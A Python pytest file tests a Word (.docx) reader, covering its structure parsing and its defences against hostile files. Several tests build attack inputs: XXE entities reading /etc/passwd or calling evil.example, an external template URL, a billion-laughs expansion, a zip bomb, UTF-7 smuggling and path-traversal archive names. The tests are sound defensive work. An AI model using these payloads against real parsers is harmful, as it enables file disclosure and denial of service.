"""Word documents by their structure, and hostile ones."""

from __future__ import annotations

import io
import time
import zipfile

import pytest

from sources.blocks import BlockKind
from sources.errors import Broken, Encrypted, SourceError, TooLarge
from sources.readers import read_bytes
from tests.sources.readers.samples import (
    docx_of,
    new_document,
    outline,
    part_of,
    rezipped,
    with_header_row,
    zip_of,
)

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
FOOTNOTES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/footnotes"
TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def article() -> bytes:
    document = new_document()
    document.core_properties.author = "Jane Doe"
    document.add_heading("Ferry runs again", 0)
    document.add_heading("Background", 1)
    document.add_paragraph("The ferry opened ").add_run("in 2019.").bold = True
    document.add_paragraph("Adults pay twelve", style="List Bullet")
    document.add_paragraph("Students pay eight", style="List Number")
    document.add_paragraph("Fares of the ferry", style="Caption")
    with_header_row(document, [("Year", "Fare"), ("2024", "11"), ("2025", "12")])
    document.add_paragraph("“We are glad.”", style="Intense Quote")
    document.add_paragraph("Ida Strand (director)")
    document.add_paragraph("It was the end.")
    return docx_of(document)


def with_body(data: bytes, old: str, new: str) -> bytes:
    """A document with part of its body replaced."""
    body = part_of(data, "word/document.xml")
    assert old in body
    return rezipped(data, {"word/document.xml": body.replace(old, new, 1).encode()})


def test_headings_lists_captions_tables_and_quotations_are_kept() -> None:
    text = read_bytes(article(), "a.docx")

    assert outline(text) == [
        ("heading1", "Ferry runs again"),
        ("heading2", "Background"),
        ("paragraph", "The ferry opened in 2019."),
        ("list_item", "Adults pay twelve"),
        ("list_item", "Students pay eight"),
        ("caption", "Fares of the ferry"),
        ("table_header", "Year | Fare"),
        ("table_row", "2024 | 11"),
        ("table_row", "2025 | 12"),
        ("quotation", "“We are glad.”"),
        ("byline", "Ida Strand (director)"),
        ("paragraph", "It was the end."),
    ]
    rows = [block for block in text.blocks if block.kind is BlockKind.TABLE_ROW]
    assert [cell.header for cell in rows[0].cells] == ["Year", "Fare"]
    assert text.metadata.title == "Ferry runs again"
    assert text.metadata.author == "Jane Doe"


def test_insertions_and_content_controls_are_read_and_deletions_are_not() -> None:
    inserted = (
        "It was the end.</w:t></w:r>"
        '<w:ins w:id="1" w:author="x"><w:r><w:t xml:space="preserve"> Or so they say.</w:t></w:r></w:ins>'
        '<w:del w:id="2" w:author="x"><w:r><w:delText> Not at all.</w:delText></w:r></w:del></w:p>'
        "<w:sdt><w:sdtContent><w:p><w:r><w:t>It went on and on.</w:t></w:r></w:p></w:sdtContent></w:sdt>"
        "<w:p><w:r><w:t>"
    )
    text = read_bytes(
        with_body(article(), "It was the end.</w:t></w:r></w:p>", inserted + "</w:t></w:r></w:p>"), "a.docx"
    )

    assert outline(text)[-2:] == [
        ("paragraph", "It was the end. Or so they say."),
        ("paragraph", "It went on and on."),
    ]


def test_footnotes_come_at_the_end() -> None:
    data = article()
    kinds = part_of(data, "[Content_Types].xml").replace(
        "</Types>",
        '<Override PartName="/word/footnotes.xml" ContentType="application/vnd.openxmlformats-officedocument'
        '.wordprocessingml.footnotes+xml"/></Types>',
    )
    links = part_of(data, "word/_rels/document.xml.rels").replace(
        "</Relationships>",
        f'<Relationship Id="rN" Type="{FOOTNOTES}" Target="footnotes.xml"/></Relationships>',
    )
    notes = (
        f"<w:footnotes {W}>"
        '<w:footnote w:type="separator" w:id="0"><w:p><w:r><w:t>line</w:t></w:r></w:p></w:footnote>'
        '<w:footnote w:id="2"><w:p><w:r><w:t>Port authority, 2025.</w:t></w:r></w:p></w:footnote>'
        "</w:footnotes>"
    )

    parts = {
        "[Content_Types].xml": kinds.encode(),
        "word/_rels/document.xml.rels": links.encode(),
        "word/footnotes.xml": notes.encode(),
    }
    text = read_bytes(rezipped(data, parts), "a.docx")

    assert outline(text)[-1] == ("paragraph", "Port authority, 2025.")


def test_a_document_without_styles_is_told_apart_like_plain_text() -> None:
    document = new_document()
    for words in (
        "Ferry runs again",
        "It had stopped in January.",
        "Background",
        "The boat was built in 1990.",
    ):
        document.add_paragraph(words)

    assert [kind for kind, _ in outline(read_bytes(docx_of(document), "a.docx"))] == [
        "heading1",
        "paragraph",
        "heading2",
        "paragraph",
    ]


def test_an_external_template_is_not_fetched(monkeypatch: pytest.MonkeyPatch) -> None:
    data = article()
    links = part_of(data, "word/_rels/document.xml.rels").replace(
        "</Relationships>",
        f'<Relationship Id="rT" Type="{TEMPLATE}" Target="http://evil.example/t.dotm" TargetMode="External"/>'
        "</Relationships>",
    )
    monkeypatch.setattr("socket.socket.connect", _refuse)

    text = read_bytes(rezipped(data, {"word/_rels/document.xml.rels": links.encode()}), "a.docx")

    assert text.metadata.title == "Ferry runs again"


def _refuse(*_: object) -> None:
    raise AssertionError("a connection was tried")


@pytest.mark.parametrize(
    "entity",
    ['<!ENTITY x SYSTEM "file:///etc/passwd">', '<!ENTITY x SYSTEM "http://evil.example/">'],
    ids=["file", "http"],
)
def test_an_external_entity_is_never_resolved(entity: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("socket.socket.connect", _refuse)
    data = with_body(article(), "It was the end.", "It was &x; the end.")
    body = part_of(data, "word/document.xml")
    start = body.index("<w:document")
    hostile = rezipped(data, {"word/document.xml": f"<!DOCTYPE d [{entity}]>{body[start:]}".encode()})

    try:
        text = read_bytes(hostile, "a.docx").text
    except SourceError:
        return

    assert "root:" not in text


def test_entities_in_entities_do_not_multiply() -> None:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    data = with_body(article(), "It was the end.", "&a9;")
    body = part_of(data, "word/document.xml")
    hostile = f"<!DOCTYPE d [{entities}]>{body[body.index('<w:document') :]}"

    try:
        text = read_bytes(rezipped(data, {"word/document.xml": hostile.encode()}), "a.docx").text
    except SourceError:
        return

    assert len(text) < 10_000


def test_a_bomb_is_refused_before_it_is_unpacked() -> None:
    bomb = rezipped(article(), {"word/media/a.bin": b"\x00" * 101_000_000})

    with pytest.raises(TooLarge, match="too large once unpacked"):
        read_bytes(bomb, "a.docx")


def test_more_elements_than_any_document_has_are_refused_before_they_are_parsed() -> None:
    data = with_body(article(), "<w:p>", "<w:p/>" * 1_500_000 + "<w:p>")
    started = time.process_time()

    with pytest.raises(TooLarge, match=r"a\.docx holds more than 1,000,000 elements; save its text as \.txt"):
        read_bytes(data, "a.docx")

    assert time.process_time() - started < 1


def test_a_document_of_five_hundred_pages_is_read() -> None:
    run = "<w:r><w:rPr><w:sz/><w:lang/></w:rPr><w:t>some words </w:t></w:r><w:proofErr/>"
    paragraph = f"<w:p><w:pPr><w:jc/></w:pPr>{run * 10}</w:p>"
    data = with_body(article(), "<w:p>", paragraph * 6 * 500 + "<w:p>")

    assert read_bytes(data, "a.docx").text.count("some words") == 30_000


def test_xml_in_an_encoding_that_word_never_writes_is_refused() -> None:
    body = part_of(article(), "word/document.xml")
    start = body.index("<w:document")
    hidden = '<?xml version="1.0" encoding="UTF-7"?>' + body[start:].replace("<w:t>", "+ADw-w:t+AD4-")

    with pytest.raises(Broken, match=r"a\.docx is a damaged Word document"):
        read_bytes(rezipped(article(), {"word/document.xml": hidden.encode()}), "a.docx")


def test_text_boxes_in_text_boxes_are_read_once_each() -> None:
    opened = "<w:p><w:r><w:t>box</w:t></w:r><w:r><w:txbxContent>"
    boxes = opened * 20 + "<w:p/>" + "</w:txbxContent></w:r></w:p>" * 20
    data = with_body(article(), "<w:p>", boxes + "<w:p>")

    assert read_bytes(data, "a.docx").text.count("box") == 20


def test_a_part_that_is_larger_than_it_says_is_damaged() -> None:
    data = bytearray(article())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        size = archive.getinfo("word/document.xml").file_size
    lied = bytes(data).replace(size.to_bytes(4, "little"), (size - 50).to_bytes(4, "little"))

    with pytest.raises(Broken, match="damaged"):
        read_bytes(lied, "a.docx")


def test_two_parts_of_one_name_are_refused() -> None:
    file = io.BytesIO(article())
    with zipfile.ZipFile(file, "a") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr("word/document.xml", b"<x/>")

    with pytest.raises(Broken, match="two parts of the same name"):
        read_bytes(file.getvalue(), "a.docx")


def test_an_encrypted_part_asks_for_a_copy_without_the_password() -> None:
    data = bytearray(article())
    start = data.rindex(b"PK\x01\x02")
    data[start + 8] |= 1

    with pytest.raises(Encrypted, match="password"):
        read_bytes(bytes(data), "a.docx")


@pytest.mark.parametrize(
    "name",
    ["../../evil.xml", "/etc/evil.xml", "C:\\evil.xml", "a" * 300],
    ids=["parent", "absolute", "drive", "long"],
)
def test_names_inside_the_archive_are_never_used_as_paths(name: str) -> None:
    assert read_bytes(rezipped(article(), {name: b"<x/>"}), "a.docx").metadata.title == "Ferry runs again"


@pytest.mark.parametrize(
    "parts",
    [
        pytest.param({"word/document.xml": b"<not xml"}, id="no XML"),
        pytest.param({"word/document.xml": b"<x/>"}, id="another root"),
        pytest.param({"word/document.xml": b""}, id="nothing"),
        pytest.param({"[Content_Types].xml": b"<Types/>"}, id="no types"),
        pytest.param({"_rels/.rels": b"<Relationships/>"}, id="no relations"),
        pytest.param({"word/styles.xml": b"\xff\xfe"}, id="styles of junk"),
    ],
)
def test_a_damaged_document_is_named(parts: dict[str, bytes]) -> None:
    with pytest.raises(SourceError, match=r"a\.docx"):
        read_bytes(rezipped(article(), parts), "a.docx")


def test_an_archive_with_nothing_else_in_it_is_damaged() -> None:
    with pytest.raises(Broken):
        read_bytes(zip_of({"word/document.xml": b"<x/>"}), "a.docx")
